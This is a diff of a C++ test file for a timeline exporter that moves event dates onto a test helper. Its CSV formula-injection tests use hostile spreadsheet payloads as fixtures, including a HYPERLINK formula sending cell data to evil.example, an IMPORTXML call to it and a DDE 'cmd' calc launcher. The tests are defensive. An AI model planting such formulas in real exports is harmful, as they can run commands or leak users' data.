@@ -5,6 +5,7 @@
 #include <nlohmann/json.hpp>
 
 #include "core/export/export.h"
+#include "tests/support/dates.h"
 
 using namespace chronicle;
 using nlohmann::json;
@@ -41,14 +42,14 @@ events::Event event(std::int64_t id, events::EventDate date, const std::string& 
 }
 
 const std::vector<events::Event> kEvents = {
-    event(17, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "Syrian forces retook \"Palmyra\"",
+    event(17, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "Syrian forces retook \"Palmyra\"",
           "On Sunday, forces retook Palmyra.", 0.9, {{"Palmyra", "place", {}}, {"Syria", "place", {}}},
           {source(3, "On Sunday, forces retook Palmyra.", 770, 803, "Sunday", 773, "2016-03-27", {788, 794})}),
-    event(4, {"2015-05", "month", "2015-05-01T00:00:00", "2015-06-01T00:00:00"}, "Palmyra fell <b>", "It fell\nlast May.",
+    event(4, testing::event_date("2015-05", "month", "2015-05-01T00:00:00", "2015-06-01T00:00:00"), "Palmyra fell <b>", "It fell\nlast May.",
           0.5, {}, {source(5, "It fell\nlast May.", 0, 18, "last May", 8, "2015-05", {}, events::State::reported)}),
-    event(8, {"2016-W12", "week", "2016-03-21T00:00:00", "2016-03-28T00:00:00"}, "Talks went on", "Talks went on.", 0.25,
+    event(8, testing::event_date("2016-W12", "week", "2016-03-21T00:00:00", "2016-03-28T00:00:00"), "Talks went on", "Talks went on.", 0.25,
           {}, {}),
-    event(9, {"199", "decade", "1990-01-01T00:00:00", "2000-01-01T00:00:00"}, "A decade of change", "The 1990s.", 0.1, {},
+    event(9, testing::event_date("199", "decade", "1990-01-01T00:00:00", "2000-01-01T00:00:00"), "A decade of change", "The 1990s.", 0.1, {},
           {}),
 };
 
@@ -132,12 +133,12 @@ TEST_CASE("format names are json, timelinejs and csv only", "[export]") {
 
 TEST_CASE("CSV text cells that a spreadsheet would run as a formula start with a quote and are quoted", "[export]") {
   const std::vector<events::Event> hostile = {
-      event(1, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"},
+      event(1, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"),
             "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Read\")", "+1+cmd|' /C calc'!A0", 0.5,
             {{"@SUM(1+1)", "person", {}}, {"Palmyra", "place", {}}}, {source(7, "s", 0, 1, "", 0, "")}),
-      event(2, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "-5 soldiers were wounded",
+      event(2, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "-5 soldiers were wounded",
             "\t=1+1", 0.5, {}, {}),
-      event(3, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "\r=1+1",
+      event(3, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "\r=1+1",
             "\xEF\xBC\x9D" "1+1", 0.5, {}, {}),
   };
   const store::ArticleRefs refs = {{7, {"=IMPORTXML(\"http://evil.example\",\"//a\")", "", "2016-03-29"}}};
@@ -153,7 +154,7 @@ TEST_CASE("CSV text cells that a spreadsheet would run as a formula start with a
 
 TEST_CASE("CSV text cells with a formula sign after their first character are left as they are", "[export]") {
   const std::vector<events::Event> plain = {
-      event(5, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "Talks: 2+2=4",
+      event(5, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "Talks: 2+2=4",
             "Mail press@example.org - now", 0.5, {{"A-ha", "organization", {}}}, {}),
   };
   CHECK(exporting::to_csv(plain, {}) ==
@@ -165,9 +166,9 @@ TEST_CASE("CSV text cells with a formula sign after their first character are le
 TEST_CASE("CSV date cells keep years before 1 as written but neutralize anything that could run", "[export]") {
   const std::vector<events::Event> dated = {
       // The Ides of March, 44 BC, in ISO 8601's astronomical years: 44 BC is year -0043.
-      event(6, {"-0043-03-15", "day", "-0043-03-15T00:00:00", "-0043-03-16T00:00:00"}, "Caesar was killed",
+      event(6, testing::event_date("-0043-03-15", "day", "-0043-03-15T00:00:00", "-0043-03-16T00:00:00"), "Caesar was killed",
             "-0043 is 44 BC.", 0.5, {}, {}),
-      event(7, {"=1+1", "day", "-1+cmd|' /C calc'!A0", "@A1"}, "Damaged", "Damaged.", 0.5, {}, {}),
+      event(7, testing::event_date("=1+1", "day", "-1+cmd|' /C calc'!A0", "@A1"), "Damaged", "Damaged.", 0.5, {}, {}),
   };
   CHECK(exporting::to_csv(dated, {}) ==
         "id,date,granularity,start,end,headline,summary,confidence,entities,sources\r\n"
@@ -177,9 +178,9 @@ TEST_CASE("CSV date cells keep years before 1 as written but neutralize anything
 
 TEST_CASE("TimelineJS times at midnight carry a display date, since TimelineJS would show a bare day", "[export]") {
   const std::vector<events::Event> timed = {
-      event(1, {"2016-03-29T00:00", "minute", "2016-03-29T00:00:00", "2016-03-29T00:01:00"}, "Polls opened", "s", 0.5,
+      event(1, testing::event_date("2016-03-29T00:00", "minute", "2016-03-29T00:00:00", "2016-03-29T00:01:00"), "Polls opened", "s", 0.5,
             {}, {}),
-      event(2, {"2016-03-27T21:30", "minute", "2016-03-27T21:30:00", "2016-03-27T21:31:00"}, "The mayor spoke", "s",
+      event(2, testing::event_date("2016-03-27T21:30", "minute", "2016-03-27T21:30:00", "2016-03-27T21:31:00"), "The mayor spoke", "s",
             0.5, {}, {}),
   };
   const json slides = json::parse(exporting::to_timelinejs(timed, {}))["events"];
@@ -226,21 +227,21 @@ void check_timelinejs_date(const json& date) {
 
 TEST_CASE("every TimelineJS slide passes the checks TimelineJS 3 makes when it loads a document", "[export]") {
   const std::vector<events::Event> all_kinds = {
-      event(1, {"2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"}, "Day", "s", 0.5, {}, {}),
-      event(2, {"2016-W12", "week", "2016-03-21T00:00:00", "2016-03-28T00:00:00"}, "Week", "s", 0.5, {}, {}),
-      event(3, {"2015-12", "month", "2015-12-01T00:00:00", "2016-01-01T00:00:00"}, "Month", "s", 0.5, {}, {}),
-      event(4, {"2015-Q4", "quarter", "2015-10-01T00:00:00", "2016-01-01T00:00:00"}, "Quarter", "s", 0.5, {}, {}),
-      event(5, {"2015-WI", "season", "2015-12-01T00:00:00", "2016-03-01T00:00:00"}, "Winter", "s", 0.5, {}, {}),
-      event(6, {"2015", "year", "2015-01-01T00:00:00", "2016-01-01T00:00:00"}, "Year", "s", 0.5, {}, {}),
-      event(7, {"199", "decade", "1990-01-01T00:00:00", "2000-01-01T00:00:00"}, "Decade", "s", 0.5, {}, {}),
-      event(8, {"19", "century", "1900-01-01T00:00:00", "2000-01-01T00:00:00"}, "Century", "s", 0.5, {}, {}),
-      event(9, {"2016-03-27T21", "hour", "2016-03-27T21:00:00", "2016-03-27T22:00:00"}, "Hour", "s", 0.5, {}, {}),
-      event(10, {"2016-12-31T23:59", "minute", "2016-12-31T23:59:00", "2017-01-01T00:00:00"}, "Minute", "s", 0.5, {},
+      event(1, testing::event_date("2016-03-27", "day", "2016-03-27T00:00:00", "2016-03-28T00:00:00"), "Day", "s", 0.5, {}, {}),
+      event(2, testing::event_date("2016-W12", "week", "2016-03-21T00:00:00", "2016-03-28T00:00:00"), "Week", "s", 0.5, {}, {}),
+      event(3, testing::event_date("2015-12", "month", "2015-12-01T00:00:00", "2016-01-01T00:00:00"), "Month", "s", 0.5, {}, {}),
+      event(4, testing::event_date("2015-Q4", "quarter", "2015-10-01T00:00:00", "2016-01-01T00:00:00"), "Quarter", "s", 0.5, {}, {}),
+      event(5, testing::event_date("2015-WI", "season", "2015-12-01T00:00:00", "2016-03-01T00:00:00"), "Winter", "s", 0.5, {}, {}),
+      event(6, testing::event_date("2015", "year", "2015-01-01T00:00:00", "2016-01-01T00:00:00"), "Year", "s", 0.5, {}, {}),
+      event(7, testing::event_date("199", "decade", "1990-01-01T00:00:00", "2000-01-01T00:00:00"), "Decade", "s", 0.5, {}, {}),
+      event(8, testing::event_date("19", "century", "1900-01-01T00:00:00", "2000-01-01T00:00:00"), "Century", "s", 0.5, {}, {}),
+      event(9, testing::event_date("2016-03-27T21", "hour", "2016-03-27T21:00:00", "2016-03-27T22:00:00"), "Hour", "s", 0.5, {}, {}),
+      event(10, testing::event_date("2016-12-31T23:59", "minute", "2016-12-31T23:59:00", "2017-01-01T00:00:00"), "Minute", "s", 0.5, {},
             {}),
-      event(11, {"0001-01-01", "day", "0001-01-01T00:00:00", "0001-01-02T00:00:00"}, "Year one", "s", 0.5, {}, {}),
+      event(11, testing::event_date("0001-01-01", "day", "0001-01-01T00:00:00", "0001-01-02T00:00:00"), "Year one", "s", 0.5, {}, {}),
       // A date the store cannot hold in this form is left out rather than written as a broken date.
-      event(12, {"2016-02-30", "day", "2016-02-30T00:00:00", "2016-03-01T00:00:00"}, "Bad", "s", 0.5, {}, {}),
-      event(13, {"PRESENT_REF", "day", "", ""}, "Undated", "s", 0.5, {}, {}),
+      event(12, testing::event_date("2016-02-30", "day", "2016-02-30T00:00:00", "2016-03-01T00:00:00"), "Bad", "s", 0.5, {}, {}),
+      event(13, testing::event_date("PRESENT_REF", "day", "", ""), "Undated", "s", 0.5, {}, {}),
   };
   const json document = json::parse(exporting::to_timelinejs(all_kinds, {}));
   REQUIRE(document.is_object());
